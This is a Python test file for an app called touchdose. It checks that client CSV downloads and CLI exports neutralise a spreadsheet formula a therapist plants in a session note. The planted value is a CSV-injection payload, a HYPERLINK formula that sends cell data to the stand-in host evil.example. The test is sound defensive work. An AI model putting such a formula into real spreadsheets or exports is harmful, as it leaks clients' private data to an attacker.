"""Issue 13, finding 4, end to end: a therapist plants a formula in a session note; the client's CSV
download and ``touchdose export --client`` hold it neutralised, and both re-import it exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from django.urls import reverse
from tests.web.conftest import World
from typer.testing import CliRunner

from touchdose.cli import app
from touchdose.io import load_text
from touchdose.io.csvfile import FORMULA_STARTS
from touchdose.web import services

PLANTED = '=HYPERLINK("http://evil.example/?d="&B2,"Your results")'


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_STARTS)]  # fmt: skip


def plant(world: World) -> None:
    services.session_update(actor=world.therapist_linked.user, session=world.therapist_session, note=PLANTED)
    services.checkin_update(actor=world.client_a.user, checkin=world.checkin, note="-1 worse than usual")


def notes_read_back(text: str) -> set[str]:
    cf = load_text(text, kind="csv", source="download", timezone="UTC").client_file
    return {s.note for s in cf.sessions} | {c.note for c in cf.checkins}


def test_finding_4_the_web_download_neutralises_a_planted_formula(world: World) -> None:
    plant(world)
    response = world.http("client_a").get(reverse("data_download", args=[world.client_a.pk, "csv"]))
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert formula_cells(text) == []
    assert {PLANTED, "-1 worse than usual"} <= notes_read_back(text)


def test_finding_4_touchdose_export_neutralises_a_planted_formula(world: World, tmp_path: Path) -> None:
    plant(world)
    out = tmp_path / "export.csv"
    result: Any = CliRunner().invoke(app, ["export", "--client", f"c-{world.client_a.pk}", "--out", str(out)])
    assert result.exit_code == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    assert formula_cells(text) == []
    assert {PLANTED, "-1 worse than usual"} <= notes_read_back(text)
